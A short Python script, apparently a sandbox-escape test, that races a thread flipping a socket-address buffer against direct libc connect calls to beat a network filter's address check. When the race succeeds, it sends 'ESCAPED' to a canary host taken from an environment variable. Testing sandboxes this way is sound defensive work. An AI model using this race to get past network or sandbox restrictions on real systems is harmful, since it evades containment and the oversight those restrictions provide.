import ctypes
import os
import socket
import struct
import sys
import threading

sys.setswitchinterval(1e-5)
host, port = os.environ["CANARY"].split(":")
libc = ctypes.CDLL(None, use_errno=True)

def address(p):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", p) + socket.inet_aton(host) + bytes(8)

buffer = ctypes.create_string_buffer(address(1), 16)
stop = False

def flip():
    while not stop:
        ctypes.memmove(buffer, address(1), 16)
        ctypes.memmove(buffer, address(int(port)), 16)

thread = threading.Thread(target=flip)
thread.start()
try:
    for _ in range(500):
        s = socket.socket()
        if libc.connect(s.fileno(), buffer, 16) == 0:
            s.sendall(b"ESCAPED")
            s.close()
            break
        s.close()
finally:
    stop = True
    thread.join()
